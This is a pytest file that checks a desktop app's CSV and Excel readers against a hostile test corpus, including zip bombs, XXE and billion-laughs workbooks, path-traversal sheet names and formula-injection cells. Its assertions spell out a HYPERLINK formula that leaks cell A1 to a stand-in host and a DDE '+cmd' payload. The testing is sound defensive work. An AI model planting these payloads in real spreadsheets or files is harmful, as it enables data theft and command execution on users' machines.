"""Every hostile file the readers are responsible for behaves as the corpus manifest says.

Rejections are checked by code (and where given, the line or cell named); files that import
are checked by the raw values a user would see in the preview and by the issues reported.
Interpretation categories (units, duplicates, missing markers, years) belong to the
interpretation tests; here those files only have to be read verbatim.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from desktop.importers.model import ImportRejectedError, MergedRange, RawGrid, ReadOptions
from desktop.importers.readers import list_sheets, read_grids

READING_CATEGORIES = {
    "control", "encoding", "delimiter", "delimiter/locale", "structure", "corrupt container",
    "resource exhaustion", "XML attack", "extension mismatch", "encrypted", "legacy format",
    "formulas", "dates", "numeric range", "used range", "corrupt content", "names",
    "text hygiene", "size", "number format", "layout", "layout/encoding", "sheets",
    "injection", "helper",
}

FIRST_ROW = ["北京市", "地区生产总值", "2016", "1000.0", "亿元"]
LAST_ROW = ["成都市", "一般公共预算收入", "2020", "6802.5", "亿元"]

# file -> (code, row, column) the rejection must carry
REJECTED: dict[str, tuple[str, int | None, str]] = {
    "empty.csv": ("empty_file", None, ""),
    "empty.xlsx": ("empty_file", None, ""),
    "thousands_unquoted.csv": ("ambiguous_thousands", 2, ""),
    "ragged_rows.csv": ("ragged_rows", 12, ""),
    "html_table_named.xls": ("html_not_spreadsheet", None, ""),
    "garbage_binary.xlsx": ("not_a_spreadsheet", None, ""),
    "truncated.xlsx": ("damaged_file", None, ""),
    "zipbomb_sheet.xlsx": ("zip_bomb", None, ""),
    "xml_billion_laughs.xlsx": ("xml_entities_forbidden", None, ""),
    "xml_quadratic_blowup.xlsx": ("xml_entities_forbidden", None, ""),
    "xml_xxe_local_file.xlsx": ("xml_entities_forbidden", None, ""),
    "bad_shared_string_index.xlsx": ("damaged_workbook", 2, "E"),
    "encrypted_ooxml.xlsx": ("password_protected", None, ""),
    "xxe_canary.txt": ("unsupported_type", None, ""),
}


def codes(grid: RawGrid) -> list[str]:
    return [issue.code for issue in grid.issues]


def one(path: Path) -> RawGrid:
    grids = read_grids(path)
    assert len(grids) == 1
    return grids[0]


def as_text(row: list) -> list[str]:
    """Cells as the CSV would spell them (Excel numbers are floats: 2016.0 -> '2016')."""
    return ["" if v is None else str(int(v)) if isinstance(v, float) and v.is_integer()
            and abs(v) >= 1900 and abs(v) < 2100 else str(v) for v in row]


# --------------------------------------------------------------------------- checks
def check_baseline_text(grid: RawGrid) -> None:
    assert grid.rows[0] == ["城市", "指标", "年份", "数值", "单位"]
    assert grid.rows[1] == FIRST_ROW
    assert grid.rows[-1] == LAST_ROW
    assert len(grid.rows) == 76
    assert grid.row_numbers == list(range(1, 77))


def check_baseline_excel(grid: RawGrid) -> None:
    assert grid.rows[0] == ["城市", "指标", "年份", "数值", "单位"]
    assert as_text(grid.rows[1]) == FIRST_ROW
    assert grid.rows[1][3] == 1000.0
    assert as_text(grid.rows[-1]) == LAST_ROW
    assert len(grid.rows) == 76


def clean_long_utf8(g: RawGrid) -> None:
    check_baseline_text(g)
    assert (g.encoding, g.delimiter, g.decimal) == ("utf-8", ",", ".")
    assert g.issues == []


def tab_separated(g: RawGrid) -> None:
    check_baseline_text(g)
    assert g.delimiter == "\t"


def enc_gbk(g: RawGrid) -> None:
    check_baseline_text(g)
    assert g.encoding in ("gb18030", "gbk")


def enc_gb18030(g: RawGrid) -> None:
    assert g.encoding == "gb18030"
    assert len(g.rows) == 78
    names = [r[0] for r in g.rows]
    assert "䶮𠀾市" in names and "𡌶阳市" in names
    assert not any("?" in n or "\ufffd" in n for n in names)


def enc_utf16(g: RawGrid) -> None:
    check_baseline_text(g)
    assert g.encoding.startswith("utf-16")


def enc_utf8_bom(g: RawGrid) -> None:
    check_baseline_text(g)
    assert g.rows[0][0] == "城市"


def semicolon_decimal_comma(g: RawGrid) -> None:
    assert (g.delimiter, g.decimal) == (";", ",")
    assert g.rows[1] == ["北京市", "地区生产总值", "2016", "1000,00", "亿元"]
    assert len(g.rows) == 76


def thousands_quoted(g: RawGrid) -> None:
    assert g.width == 5
    assert g.rows[1][3] == "1,000.00"


def header_only(g: RawGrid) -> None:
    assert [as_text(r) for r in g.rows] == [["城市", "指标", "年份", "数值", "单位"]]


def worldbank(g: RawGrid) -> None:
    # preamble lines 1 and 3 kept (blank lines 2 and 4 skipped), header on line 5
    assert g.row_numbers[:3] == [1, 3, 5]
    assert g.rows[0][:2] == ["Data Source", "World Development Indicators"]
    assert g.rows[2][:5] == ["Country Name", "Country Code", "Indicator Name", "Indicator Code",
                             "2016"]
    assert g.rows[2][-1] == ""  # the trailing empty column is kept for interpretation
    assert len(g.rows) == 9


def nbs_style(g: RawGrid) -> None:
    assert g.encoding == "gb18030"
    assert g.rows[0] == ["数据库：年度数据"]
    assert g.rows[3][:2] == ["指标", "2020年"]
    assert g.rows[-2][0].startswith("注：") and g.rows[-1] == ["数据来源：国家统计局"]


def formula_injection_csv(g: RawGrid) -> None:
    firsts = [r[0] for r in g.rows[1:8]] + [r[1] for r in g.rows[1:8]]
    assert '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")' in firsts
    assert "\t=1+1" in firsts
    assert "\r=1+1" in firsts  # a quoted CR is content, kept literally
    assert len(g.rows) == 76


def long_strings(g: RawGrid) -> None:
    assert "field_truncated" in codes(g)
    assert len(g.rows[1][0]) == 10_000 and len(g.rows) == 76
    issue = next(i for i in g.issues if i.code == "field_truncated")
    assert issue.location.row == 2 and issue.location.column == "A"


def control_chars_csv(g: RawGrid) -> None:
    assert len(g.rows) == 76
    names = [r[0] for r in g.rows[1::6]]
    assert names[:12] == ["北京市", "上海市", "广州市区", "深圳市", "成都🏙️市", "重庆\u3000市",
                          "天津\n市", "Z\u0338\u0322a\u0335l\u0334g\u0337o", "武汉市", "西安市",
                          "南京市", "苏州市"]
    assert {"control_characters_removed", "bare_cr_in_field"} <= set(codes(g))
    bare = next(i for i in g.issues if i.code == "bare_cr_in_field")
    # physical line 69 (the manifest's "line 68" counts records; 天津 spans two lines)
    assert bare.location.row == 69
    assert g.row_numbers[-1] == 77


def csv_named_xlsx(g: RawGrid) -> None:
    check_baseline_text(g)
    assert codes(g) == ["extension_mismatch"]


def clean_long_xlsx(g: RawGrid) -> None:
    check_baseline_excel(g)
    assert g.sheet == "数据" and g.issues == []


def header_only_xlsx(g: RawGrid) -> None:
    header_only(g)


def merged(g: RawGrid) -> None:
    assert MergedRange(0, 0, 1, 0) in g.merged  # 城市 over two header rows
    assert MergedRange(0, 2, 0, 3) in g.merged  # 2016年 over 数值|单位
    assert MergedRange(2, 0, 4, 0) in g.merged  # 北京市 down three rows
    assert g.rows[2][0] == "北京市" and g.rows[3][0] is None


def hidden_first_sheet(g: RawGrid) -> None:
    check_baseline_excel(g)
    assert g.sheet == "数据"
    assert "hidden_sheet_skipped" in codes(g)


def formulas(g: RawGrid) -> None:
    values = [r[3] for r in g.rows]
    assert values[1:] == [1000.0, None, 999.0, None, 42.0]
    assert g.cell_flags[(2, 3)] == "formula_not_calculated"
    assert g.cell_flags[(4, 3)] == "formula_not_calculated"
    assert g.cell_flags[(3, 3)] == "formula_cached_unverified"
    issue = next(i for i in g.issues if i.code == "formula_not_calculated")
    assert "D3" in issue.message and "D5" in issue.message
    assert "formula_cached_unverified" in codes(g)


def dates_1904(g: RawGrid) -> None:
    # 42369 and 42735 are 1 January 2020 and 2021 in the 1904 system (not 2015-12-31 and
    # 2016-12-31 as the 1900 system would make them): years; C5 (60) is a real date
    column = [r[2] for r in g.rows[1:]]
    assert column == [2020.0, 2021.0, "2017-12-31", "1904-03-01"]
    assert g.cell_flags == {(4, 2): "date"}
    issue = next(i for i in g.issues if i.code == "date_cell")
    assert "1904" in issue.message and issue.values["date1904"] is True
    years = next(i for i in g.issues if i.code == "date_read_as_year")
    assert years.values["cells"] == ["C2", "C3"] and years.values["years"] == [2020, 2021]
    assert "1904 date system" in years.message


def nonfinite(g: RawGrid) -> None:
    values = [r[3] for r in g.rows[1:]]
    assert values[0] is None and values[1] is None and values[-1] == 1222.0
    assert "number_out_of_range" in codes(g)


def nan_token(g: RawGrid) -> None:
    assert [r[3] for r in g.rows[1:]] == [None, None, 1111.0]
    issue = next(i for i in g.issues if i.code == "invalid_number_token")
    assert issue.values["cells"] == ["D2", "D3"]


def formula_injection_xlsx(g: RawGrid) -> None:
    assert g.rows[1][0] == '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'
    assert g.rows[2][1] == "+cmd|' /C calc'!A0"
    assert g.rows[6][3] == "click" and g.cell_flags[(6, 3)] == "formula_cached_unverified"


def control_chars_xlsx(g: RawGrid) -> None:
    names = [r[0] for r in g.rows[1:]]
    assert names == ["北京市", "上海市区", "广州市", "深圳🏙️市", "成都\u3000市",
                     "Z\u0338\u0322a\u0335l\u0334g\u0337o", "西安市", "北京市"]
    assert "control_characters_removed" in codes(g)


def styled_far_corner(g: RawGrid) -> None:
    assert len(g.rows) == 4 and g.width == 5


def legacy_xls(g: RawGrid) -> None:
    check_baseline_excel(g)


def legacy_renamed(g: RawGrid) -> None:
    check_baseline_excel(g)
    assert codes(g) == ["extension_mismatch"]


def verbatim(g: RawGrid) -> None:
    """Interpretation categories: the reader hands every row over unchanged."""
    assert g.rows[0][:2] == ["城市", "指标"] and len(g.rows) >= 16
    assert g.issues == []


SINGLE: dict[str, Callable[[RawGrid], None]] = {
    "clean_long_utf8.csv": clean_long_utf8,
    "tab_separated.tsv": tab_separated,
    "enc_gbk.csv": enc_gbk,
    "enc_gb18030.csv": enc_gb18030,
    "enc_utf16.csv": enc_utf16,
    "enc_utf8_bom.csv": enc_utf8_bom,
    "semicolon_decimal_comma.csv": semicolon_decimal_comma,
    "thousands_quoted.csv": thousands_quoted,
    "header_only.csv": header_only,
    "worldbank_metadata_rows.csv": worldbank,
    "nbs_style_gbk.csv": nbs_style,
    "formula_injection.csv": formula_injection_csv,
    "long_strings.csv": long_strings,
    "control_chars_rtl_emoji.csv": control_chars_csv,
    "csv_named_xlsx.xlsx": csv_named_xlsx,
    "clean_long.xlsx": clean_long_xlsx,
    "header_only.xlsx": header_only_xlsx,
    "merged_multirow_header.xlsx": merged,
    "hidden_first_sheet.xlsx": hidden_first_sheet,
    "formulas_no_cached_values.xlsx": formulas,
    "dates_1904_and_serials.xlsx": dates_1904,
    "nonfinite_numbers.xlsx": nonfinite,
    "nan_token_numeric_cell.xlsx": nan_token,
    "formula_injection.xlsx": formula_injection_xlsx,
    "control_chars_rtl_emoji.xlsx": control_chars_xlsx,
    "styled_cell_far_corner.xlsx": styled_far_corner,
    "legacy_valid.xls": legacy_xls,
    "legacy_xls_renamed.xlsx": legacy_renamed,
    "missing_markers.csv": verbatim,
    "duplicates_conflicting.csv": verbatim,
    "nonnumeric_values.csv": verbatim,
    "years_with_suffix.csv": verbatim,
    "wide_years_as_columns.csv": verbatim,
    "mixed_units.csv": verbatim,
    "huge_inf_nan.csv": verbatim,
}


def test_every_manifest_row_is_covered(manifest: dict[str, dict[str, str]]) -> None:
    handled = set(REJECTED) | set(SINGLE) | {"data_on_second_sheet.xlsx",
                                             "pathlike_sheet_names.xlsx"}
    assert set(manifest) == handled
    for name, row in manifest.items():
        assert row["category"] in READING_CATEGORIES | {"missing values", "duplicates",
                                                        "mixed types", "year format", "units"}
        if name in REJECTED:
            assert row["expected"] == "reject with clear error", name


@pytest.mark.parametrize("name", sorted(REJECTED))
def test_rejected_with_code(corpus: Path, name: str) -> None:
    code, row, column = REJECTED[name]
    with pytest.raises(ImportRejectedError) as info:
        read_grids(corpus / name)
    issue = info.value.issue
    assert issue.code == code
    assert issue.location.file == name
    assert issue.location.row == row and issue.location.column == column
    assert "\n" not in issue.message and issue.message.endswith(".")
    assert "Traceback" not in str(info.value)


def test_ragged_rows_names_every_line(corpus: Path) -> None:
    with pytest.raises(ImportRejectedError) as info:
        read_grids(corpus / "ragged_rows.csv")
    assert info.value.issue.values["lines"] == [12, 22, 32]
    assert "12, 22, 32" in info.value.issue.message


def test_unquoted_thousands_never_shifts(corpus: Path) -> None:
    with pytest.raises(ImportRejectedError) as info:
        read_grids(corpus / "thousands_unquoted.csv")
    assert "line" in info.value.issue.message and "1,000.00" in info.value.issue.message


@pytest.mark.parametrize("name", sorted(SINGLE))
def test_reads_as_manifest_says(corpus: Path, name: str) -> None:
    grid = one(corpus / name)
    assert grid.file == name
    assert len(grid.rows) == len(grid.row_numbers)
    SINGLE[name](grid)


def test_data_on_second_sheet_both_sheets_offered(corpus: Path) -> None:
    grids = read_grids(corpus / "data_on_second_sheet.xlsx")
    assert [g.sheet for g in grids] == ["说明", "数据"]
    check_baseline_excel(grids[1])
    only = read_grids(corpus / "data_on_second_sheet.xlsx", ReadOptions(sheet="数据"))
    assert [g.sheet for g in only] == ["数据"]


def test_hidden_sheet_read_only_when_asked(corpus: Path) -> None:
    sheets = list_sheets(corpus / "hidden_first_sheet.xlsx")
    assert [(s.name, s.hidden) for s in sheets] == [("旧版", True), ("数据", False)]
    grids = read_grids(corpus / "hidden_first_sheet.xlsx",
                       ReadOptions(include_hidden_sheets=True))
    assert [g.sheet for g in grids] == ["旧版", "数据"]
    assert grids[0].rows[1][3] == 500.0  # the superseded x0.5 values, only on request


def test_pathlike_and_duplicate_sheet_names_kept_apart(corpus: Path) -> None:
    path = corpus / "pathlike_sheet_names.xlsx"
    grids = read_grids(path)
    names = [g.sheet for g in grids]
    assert names[:5] == ["../../../escape/数据", "..\\..\\escape\\数据", "CON", "数据:2016",
                         "A" * 64]
    assert names[5] == "数据" and names[6] != "数据" and len(set(names)) == 7
    assert [g.rows[1][3] for g in grids] == [1000.0 + k for k in range(7)]
    assert [s.name for s in list_sheets(path)] == names
    second = read_grids(path, ReadOptions(sheet=names[6]))
    assert second[0].rows[1][3] == 1006.0
    # nothing was written next to the file or above it
    assert not (path.parent.parent / "zip_slip_probe.txt").exists()
    assert not (path.parent / "escape").exists()


def test_no_such_sheet(corpus: Path) -> None:
    with pytest.raises(ImportRejectedError) as info:
        read_grids(corpus / "clean_long.xlsx", ReadOptions(sheet="Sheet9"))
    assert info.value.issue.code == "no_such_sheet"
    assert "'数据'" in info.value.issue.message


def test_xxe_canary_never_read(corpus: Path) -> None:
    with pytest.raises(ImportRejectedError) as info:
        read_grids(corpus / "xml_xxe_local_file.xlsx")
    assert "CANARY-XXE" not in str(info.value)
    assert "CANARY-XXE" not in repr(info.value.issue)
